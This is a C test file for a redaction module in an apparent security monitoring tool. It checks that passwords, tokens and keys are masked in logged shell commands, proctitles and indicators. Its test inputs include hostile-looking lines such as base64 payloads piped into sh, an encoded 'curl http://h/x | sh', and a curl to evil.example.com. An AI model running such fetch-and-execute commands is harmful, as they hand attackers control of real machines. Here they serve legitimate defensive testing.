// SPDX-License-Identifier: GPL-3.0-or-later
/* Payloads, the proctitle, indicators and reasons: wherever a secret is. */
#include <nettle/sha2.h>

#include "ioc.h"
#include "masked.h"
#include "record.h"

/* Base64 of "mysql -u root -pS3cret db", "S3cret-word", "ann:S3cret". */
#define B64_MYSQL "bXlzcWwgLXUgcm9vdCAtcFMzY3JldCBkYg=="
#define B64_WORD  "UzNjcmV0LXdvcmQ="
#define B64_USER  "YW5uOlMzY3JldA=="

static void run(struct masked *m)
{
	redact_run(m->redact, m->ev, m->rules);
}

static struct event *shell(struct masked *m, const char *text)
{
	return masked_event(m, (const char *const[]){ "sh", "-c", text, NULL });
}

static void test_layer(struct masked *m)
{
	struct event *ev = shell(m, "echo " B64_MYSQL " | base64 -d | sh; id");
	struct event_layer before;
	struct sha256_ctx ctx;
	uint8_t digest[32];

	check_start("a payload's secret, and what it came out of");
	if (!CHECK_EQ(ev->n_layers, 1))
		return;
	before = ev->layers[0];
	run(m);
	CHECK_Z(ev->layers[0].text, "mysql -u root -p*** db");
	CHECK_Z(ev->argv[2], "echo *** | base64 -d | sh; id");
	CHECK_Z(bytes_of(masked_rules(m)), "encoded,mysql");
	check_start("the original is kept for whoever judges");
	if (CHECK(ev->redacted.layers))
		CHECK_BYTES(ev->redacted.layers[0].text, before.text);
	check_start("the digest is that of what is shown");
	sha256_init(&ctx);
	sha256_update(&ctx, ev->layers[0].text.len,
		(const uint8_t *)ev->layers[0].text.p);
	sha256_digest(&ctx, sizeof(digest), digest);
	CHECK(!memcmp(digest, ev->layers[0].sha256, sizeof(digest)));
}

static void test_nested(struct masked *m)
{
	/* echo B64_MYSQL | base64 -d | sh, and that in Base64 */
	struct event *ev = shell(m,
		"echo ZWNobyBiWGx6Y1d3Z0xYVWdjbTl2ZENBdGNGTXpZM0psZENCa1lnPT0g"
		"fCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh");

	check_start("every encoding around it");
	run(m);
	CHECK(ev->n_layers >= 2);
	for (size_t i = 0; i < ev->n_layers; i++)
		CHECK(!memmem(ev->layers[i].text.p, ev->layers[i].text.len,
			"bXlzcWwg", 8));
	CHECK_Z(ev->layers[ev->n_layers - 1].text, "mysql -u root -p*** db");
	CHECK_Z(ev->argv[2], "echo *** | base64 -d | sh");
}

static void test_decoded(struct masked *m)
{
	struct event *ev;

	check_start("what an encoded secret says");
	ev = shell(m, "A_PASSWORD=" B64_WORD "; echo $A_PASSWORD | base64 -d");
	run(m);
	for (size_t i = 0; i < ev->n_layers; i++)
		CHECK(!memmem(ev->layers[i].text.p, ev->layers[i].text.len,
			"S3cret", 6));
	check_start("but a payload is not hidden by its name");
	ev = shell(m, "A_TOKEN=Y3VybCBodHRwOi8vaC94IHwgc2g=; echo $A_TOKEN | "
		      "base64 -d | sh");
	run(m);
	if (CHECK(ev->n_layers))
		CHECK_Z(ev->layers[ev->n_layers - 1].text,
			"curl http://h/x | sh");
	check_start("what a decoder pipes into chpasswd");
	ev = shell(m, "echo " B64_USER " | base64 -d | chpasswd");
	run(m);
	CHECK_Z(ev->argv[2], "echo *** | base64 -d | chpasswd");
	if (CHECK(ev->n_layers))
		CHECK_Z(ev->layers[0].text, "ann:***");
}

static void set_title(struct event *ev, const char *const *argv, size_t max)
{
	struct str hex;
	size_t n = 0;

	str_init(&hex, 4096);
	for (size_t i = 0; argv[i]; i++)
		for (const char *p = argv[i]; n < max; p++, n++) {
			if (!*p && !argv[i + 1])
				break;
			str_addf(&hex, "%02X", (unsigned char)*p);
			if (!*p) {
				n++;
				break;
			}
		}
	ev->proctitle = event_copy(ev, str_bytes(&hex));
	str_fini(&hex);
}

static const char *title(struct masked *m)
{
	str_reset(&m->said);
	record_add_text(&m->said, m->ev->proctitle);
	for (size_t i = 0; i < m->said.len; i++)
		if (!m->said.p[i])
			m->said.p[i] = '|';
	return str_z(&m->said);
}

static void test_title(struct masked *m)
{
	static const char *const argv[] = { "mysql", "-u", "root", "-pS3cret",
		"db", NULL };
	static const char *const token[] = { "x",
		"ghp_0123456789abcdefghijklmnopqrstuvwxyz", NULL };
	static const char *const plain[] = { "ls", "-l", "/tmp", NULL };
	struct bytes before;

	check_start("the same argv as a proctitle");
	set_title(masked_event(m, argv), argv, 128);
	run(m);
	CHECK_Z(bytes_of(title(m)), "mysql|-u|root|-p***|db");
	check_start("one that was cut within the secret");
	set_title(masked_event(m, argv), argv, 19);
	run(m);
	CHECK_Z(bytes_of(title(m)), "mysql|-u|root|-p***");
	check_start("one that was cut where no row knows it");
	set_title(masked_event(m, token), token, 8);
	run(m);
	CHECK_Z(bytes_of(title(m)), "x|***");
	check_start("another command's");
	set_title(masked_event(m, plain), argv, 128);
	run(m);
	CHECK_Z(bytes_of(title(m)), "mysql|-u|root|-p***|db");
	CHECK_Z(m->ev->argv[0], "ls");
	CHECK_Z(bytes_of(masked_rules(m)), "mysql");
	check_start("of an event that has no argv");
	set_title(masked_event(m, plain), argv, 128);
	m->ev->argc = 0;
	m->ev->has_execve = false;
	run(m);
	CHECK_Z(bytes_of(title(m)), "mysql|-u|root|-p***|db");
	check_start("an ordinary one is left as it is");
	set_title(masked_event(m, plain), plain, 128);
	before = m->ev->proctitle;
	run(m);
	CHECK(m->ev->proctitle.p == before.p);
	CHECK_EQ(m->ev->redacted.n_rules, 0);
}

static void test_iocs(struct masked *m)
{
	static const char *const argv[] = { "curl", "-H",
		"X-Api-Key: 0123456789ABCDEF0123456789ABCDEF",
		"https://ann:p@evil.example.com/x?token=T0ken%2Dlong", NULL };
	struct ioc_conf cf = { .types = IOC_TYPES_DEFAULT };
	struct event *ev = masked_event(m, argv);
	bool has_url = false;

	check_start("indicators, and the reasons that quote them");
	ioc_run(ev, &cf);
	str_addz(&ev->score.why,
		"https://ann:p@evil.example.com/x?token=T0ken%2Dlong is high");
	run(m);
	for (size_t i = 0; i < ev->n_iocs; i++) {
		struct bytes v = ev->iocs[i].value;

		CHECK(!memmem(v.p, v.len, "T0ken", 5));
		CHECK(!memmem(v.p, v.len, "p@evil", 6));
		CHECK(!memmem(v.p, v.len, "abcdef01234", 11));
		has_url |= ev->iocs[i].type == IOC_URL &&
			   memmem(v.p, v.len, "ann:***@", 8);
	}
	CHECK(has_url);
	CHECK_Z(str_bytes(&ev->score.why),
		"https://ann:***@evil.example.com/x?token=*** is high");
}

/* Where more is to be done than may be, more is masked. */
static void test_limits(struct masked *m)
{
	struct str text;

	check_start("texts within texts without end");
	str_init(&text, 1 << 20);
	for (int i = 0; i < 100; i++)
		str_addf(&text, "sh -c 'mysql -pS3cret%d'; ", i);
	CHECK(!strstr(masked_shell(m, str_z(&text)), "S3cret"));
	check_start("ssh to ssh to ssh");
	str_reset(&text);
	for (int i = 0; i < 1000; i++)
		str_addz(&text, "ssh h ");
	str_addz(&text, "mysql -pS3cret");
	CHECK(!strstr(masked_shell(m, str_z(&text)), "S3cret"));
	check_start("a script that is too long to be read at once");
	str_reset(&text);
	for (int i = 0; i < (int)check_rounds(20000); i++)
		str_addz(&text, "a;b\n");
	str_addz(&text, "mysql -pS3cret\n");
	CHECK(!strstr(masked_shell(m, str_z(&text)), "S3cret"));
	CHECK(strstr(str_z(&m->said), "a;b\nmysql -p***"));
	check_start("a token that is longer than any window");
	str_reset(&text);
	str_addz(&text, "x -----BEGIN PRIVATE KEY-----");
	for (int i = 0; i < 30000; i++)
		str_addc(&text, 'A');
	str_addz(&text, " y");
	CHECK_Z(bytes_of(masked_shell(m, str_z(&text))),
		"x -----BEGIN PRIVATE KEY-----***");
	str_fini(&text);
}

/* Any bytes: nothing is read that is not there, and what is masked is. */
static void test_noise(struct masked *m)
{
	static const char *const bits[] = { "mysql -p", "'", "\"", "\\", "$P ",
		"P=S3;", "password=", "://a:", "@", "|chpasswd", "<<E\n", "E\n",
		"echo a:b", "sh -c ", "$'", "{", "}", "token: ", "Bearer ",
		"AKIA", "eyJ", "\xff", "\n", " ",
		"-----BEGIN PRIVATE KEY-----" };
	unsigned long long seed = 7;
	char text[2048];

	check_start("noise");
	for (int i = 0; i < (int)check_rounds(20000); i++) {
		size_t n = 0;

		while (n < 300) {
			const char *b = bits[check_random(&seed) %
					     (sizeof(bits) / sizeof(bits[0]))];

			memcpy(text + n, b, strlen(b));
			n += strlen(b);
		}
		text[n] = '\0';
		masked_shell(m, text);
	}
	CHECK_EQ(m->ev->argc, 3);
}

int main(void)
{
	struct masked m;

	check.module = "redact_event";
	masked_init(&m, NULL);
	test_layer(&m);
	test_nested(&m);
	test_decoded(&m);
	test_title(&m);
	test_iocs(&m);
	test_limits(&m);
	test_noise(&m);
	masked_fini(&m);
	return check_end();
}
